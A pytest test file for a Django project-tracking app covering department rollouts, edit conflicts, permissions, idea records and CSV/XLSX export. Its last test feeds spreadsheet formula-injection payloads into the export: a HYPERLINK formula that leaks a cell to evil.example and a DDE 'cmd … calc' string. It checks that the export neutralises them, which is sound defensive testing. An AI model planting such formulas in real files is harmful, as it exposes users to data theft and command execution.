import csv
import io
from datetime import date

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from projects.models import Idea, Project, Rollout
from tests import factories

pytestmark = pytest.mark.django_db


def rollout_post(departments, rows, version=1):
    """rows: {department: (status, date, contact pk, note)}; `version`: the project's version
    the form was opened at (a new project's is 1)."""
    data = {
        "rows-TOTAL_FORMS": len(departments), "rows-INITIAL_FORMS": len(departments),
        "version": version,
    }
    for i, department in enumerate(departments):
        status, day, contact, note = rows.get(department, ("", "", "", ""))
        data.update({
            f"rows-{i}-department": department.pk, f"rows-{i}-status": status,
            f"rows-{i}-date": day, f"rows-{i}-contact": contact or "", f"rows-{i}-note": note,
        })
    return data


def all_departments():
    from agents.models import Department

    return list(Department.objects.order_by("name"))


def test_lead_records_a_rollout_matrix(agent_client, project, manager):
    hjemmepleje = factories.DepartmentFactory(name="Hjemmepleje")
    skole = factories.DepartmentFactory(name="Skole")
    departments = all_departments()

    response = agent_client.post(
        reverse("projects:rollout", args=[project.pk]),
        rollout_post(departments, {
            hjemmepleje: ("in_use", "2026-03-01", manager.pk, "Kører fint"),
            skole: ("declined", "", "", "Har eget system"),
        }),
    )

    assert response["Location"] == project.get_absolute_url()
    rows = {r.department.name: r for r in project.rollouts.select_related("department")}
    assert set(rows) == {"Hjemmepleje", "Skole"}
    assert (rows["Hjemmepleje"].status, rows["Hjemmepleje"].date, rows["Hjemmepleje"].contact) == (
        "in_use", date(2026, 3, 1), manager,
    )
    page = agent_client.get(project.get_absolute_url()).content.decode()
    assert "Har eget system" in page and "rollout-declined" in page
    assert project.changes.get().changes[:2] == [
        {"name": "rollout", "old": "", "new": "in_use", "department": "Hjemmepleje"},
        {"name": "rollout_contact", "old": "", "new": str(manager), "department": "Hjemmepleje"},
    ]
    assert "Udrulning: Hjemmepleje (kontaktperson): “–” → “Henrik Mølgaard”" in page


def test_a_rollout_saved_by_someone_else_meanwhile_is_not_overwritten(
    agent_client, facilitator, project
):
    hjemmepleje = factories.DepartmentFactory(name="Hjemmepleje")
    departments = all_departments()
    url = reverse("projects:rollout", args=[project.pk])
    opened = agent_client.get(url).context["version"]
    # The facilitator opens and saves the rollout first, in a browser of her own.
    other = Client()
    other.force_login(facilitator)
    other.post(url, {
        **rollout_post(departments, {hjemmepleje: ("in_use", "", "", "Kører")}),
        "version": other.get(url).context["version"],
    })

    late = agent_client.post(url, {
        **rollout_post(departments, {hjemmepleje: ("declined", "", "", "Nej tak")}),
        "version": opened,
    })

    assert late.status_code == 200
    assert "Lise Bundgaard gemte projektet" in late.content.decode()
    assert Rollout.objects.get(project=project).status == "in_use"
    # Saved again from the page that told them, it goes through.
    again = agent_client.post(url, {
        **rollout_post(departments, {hjemmepleje: ("declined", "", "", "Nej tak")}),
        "version": late.context["version"],
    })
    assert again.status_code == 302
    assert Rollout.objects.get(project=project).status == "declined"
    project.refresh_from_db()
    assert project.version == opened + 2


def test_a_rollout_posted_without_its_version_is_refused(agent_client, project):
    hjemmepleje = factories.DepartmentFactory(name="Hjemmepleje")
    Rollout.objects.create(project=project, department=hjemmepleje, status="in_use")
    url = reverse("projects:rollout", args=[project.pk])
    data = rollout_post(all_departments(), {hjemmepleje: ("declined", "", "", "Nej tak")})
    del data["version"]

    response = agent_client.post(url, data)

    assert response.status_code == 200
    assert "Nothing is saved" not in response.content.decode()
    assert "Intet er gemt" in response.content.decode()
    assert Rollout.objects.get(project=project).status == "in_use"
    assert not project.changes.exists()
    project.refresh_from_db()
    assert project.version == 1
    # Saved again from that page, with the version it now carries, it goes through.
    again = agent_client.post(url, {**data, "version": response.context["version"]})
    assert again["Location"] == project.get_absolute_url()
    assert Rollout.objects.get(project=project).status == "declined"


def test_clearing_a_status_removes_the_row(agent_client, project):
    skole = factories.DepartmentFactory(name="Skole")
    Rollout.objects.create(project=project, department=skole, status="introduced")

    agent_client.post(reverse("projects:rollout", args=[project.pk]),
                      rollout_post(all_departments(), {}))

    assert not project.rollouts.exists()


def test_bad_rollout_input_saves_nothing(agent_client, project):
    skole = factories.DepartmentFactory(name="Skole")
    departments = all_departments()

    for bad in [{skole: ("everywhere", "", "", "")}, {skole: ("in_use", "31.02.2026", "", "")},
                {skole: ("in_use", "", "999999", "")}]:
        response = agent_client.post(
            reverse("projects:rollout", args=[project.pk]), rollout_post(departments, bad)
        )
        assert response.status_code == 200
        assert "is-invalid" in response.content.decode()
    tampered = rollout_post(departments, {skole: ("in_use", "", "", "")})
    tampered["rows-0-department"] = "999999"
    response = agent_client.post(reverse("projects:rollout", args=[project.pk]), tampered)
    assert response.status_code == 200
    assert not Rollout.objects.exists()


def test_other_agent_cannot_edit_the_rollout(client, project, other_agent):
    client.force_login(other_agent.user)

    response = client.post(reverse("projects:rollout", args=[project.pk]),
                           rollout_post(all_departments(), {}))

    assert response.status_code == 403


def test_rollout_overview_shows_every_project_against_every_department(agent_client, project):
    skole = factories.DepartmentFactory(name="Skole")
    factories.DepartmentFactory(name="Økonomi")
    Rollout.objects.create(project=project, department=skole, status="in_use")

    response = agent_client.get(reverse("projects:rollouts"))

    [(shown, cells)] = response.context["matrix"]
    assert shown == project
    assert [c.status if c else None for c in cells] == [
        "in_use" if d == skole else None for d in response.context["departments"]
    ]


def test_idea_becomes_a_project_linked_both_ways(agent_client, agent):
    department = factories.DepartmentFactory(name="Hjemmepleje")
    agent_client.post(reverse("projects:idea_create"), {
        "text": "Hvor ville det være smart, hvis vi kunne se køreruterne på en skærm.",
        "department": department.pk, "occasion": "Personalemøde", "heard_on": "2026-10-01",
        "status": "new",
    })
    idea = Idea.objects.get()
    assert idea.recorded_by == agent.user

    form = agent_client.get(reverse("projects:create"), {"idea": idea.pk})
    assert form.context["form"].initial["departments"] == [department.pk]
    response = agent_client.post(
        f"{reverse('projects:create')}?idea={idea.pk}",
        {"title": "Køreruter på skærm", "status": "idea", "departments": [department.pk]},
    )

    project = Project.objects.get(title="Køreruter på skærm")
    idea.refresh_from_db()
    assert (idea.project, idea.status) == (project, "project")
    assert idea.text[:30] in agent_client.get(project.get_absolute_url()).content.decode()
    assert response["Location"] == project.get_absolute_url()
    again = agent_client.get(reverse("projects:create"), {"idea": idea.pk})
    assert again.status_code == 404


def test_shelving_an_idea_needs_a_reason(agent_client, agent):
    idea = Idea.objects.create(text="Robot til kaffe", recorded_by=agent.user)

    response = agent_client.post(reverse("projects:idea_edit", args=[idea.pk]), {
        "text": idea.text, "heard_on": "2026-10-01", "status": "shelved", "shelved_reason": "",
    })

    assert "shelved_reason" in response.context["form"].errors
    idea.refresh_from_db()
    assert idea.status == "new"


def test_only_recorder_and_facilitator_edit_an_idea(client, agent, other_agent):
    idea = Idea.objects.create(text="Robot til kaffe", recorded_by=agent.user)
    client.force_login(other_agent.user)

    assert client.get(reverse("projects:idea_edit", args=[idea.pk])).status_code == 403


def test_export_round_trip_keeps_the_filter(agent_client, agent, other_agent):
    factories.ProjectFactory(title="Robot", lead=agent, status="running",
                             start_date=date(2026, 1, 15))
    factories.ProjectFactory(title="Sms", lead=other_agent, status="done")

    xlsx = agent_client.get(reverse("projects:export", args=["xlsx"]), {"status": "running"})
    text = agent_client.get(reverse("projects:export", args=["csv"]), {"status": "running"})

    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    rows = list(sheet.values)
    assert rows[0][0] == "Titel" and "Startdato" in rows[0]
    assert [r[0] for r in rows[1:]] == ["Robot"]
    start = rows[1][rows[0].index("Startdato")]
    assert (start.year, start.month, start.day) == (2026, 1, 15)
    lines = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig")), delimiter=";"))
    assert [line[0] for line in lines] == ["Titel", "Robot"]
    assert "15.01.2026" in lines[1]
    assert "attachment" in xlsx["Content-Disposition"]


def test_admin_pages_for_projects_render(facilitator_client, project):
    Rollout.objects.create(project=project, department=project.lead.department)
    Idea.objects.create(text="Robot", project=project)
    for model in ["project", "strategygoal", "projecttype", "projectchange", "idea"]:
        url = reverse(f"admin:projects_{model}_changelist")
        assert facilitator_client.get(url).status_code == 200, model
    page = facilitator_client.get(reverse("admin:projects_project_change", args=[project.pk]))
    assert "rollouts-TOTAL_FORMS" in page.content.decode()


def test_export_neutralises_text_a_spreadsheet_would_run_as_a_formula(agent_client, agent):
    # Text people typed, in every kind of text column: title, names, departments, types.
    agent.user.first_name, agent.user.last_name = "@SUM(1+1)", "Skovgaard"
    agent.user.save()
    agent.department.name = "-2+3"
    agent.department.save()
    served = factories.DepartmentFactory(name="\tcmd|' /C calc'!A0")
    kind = factories.ProjectTypeFactory(name="+cmd")
    factories.ProjectFactory(
        title='=HYPERLINK("https://evil.example/?x="&A1;"Klik")', lead=agent,
        departments=[served], start_date=date(2026, 1, 15), hours_saved_per_year=120,
    ).types.add(kind)

    xlsx = agent_client.get(reverse("projects:export", args=["xlsx"]))
    text = agent_client.get(reverse("projects:export", args=["csv"]))

    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    heading = [cell.value for cell in sheet[1]]
    row = dict(zip(heading, sheet[2], strict=True))
    assert row["Titel"].data_type == "s"
    assert row["Titel"].value == '\'=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
    assert row["Ansvarlig agent"].value == "'@SUM(1+1) Skovgaard"
    assert row["Ansvarlig agents afdeling"].value == "'-2+3"
    assert row["Betjente afdelinger"].value == "'\tcmd|' /C calc'!A0"
    assert row["Type"].value == "'+cmd"
    assert not any(cell.data_type == "f" for cell in sheet[2])
    # Numbers and dates stay typed.
    assert row["Forventede sparede timer pr. år"].value == 120
    assert row["Startdato"].is_date

    lines = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig")), delimiter=";"))
    line = dict(zip(lines[0], lines[1], strict=True))
    assert line["Titel"] == '\'=HYPERLINK("https://evil.example/?x="&A1;"Klik")'
    assert line["Ansvarlig agent"] == "'@SUM(1+1) Skovgaard"
    assert line["Ansvarlig agents afdeling"] == "'-2+3"
    assert line["Type"] == "'+cmd"
    assert line["Startdato"] == "15.01.2026"
    assert line["Forventede sparede timer pr. år"] == "120"
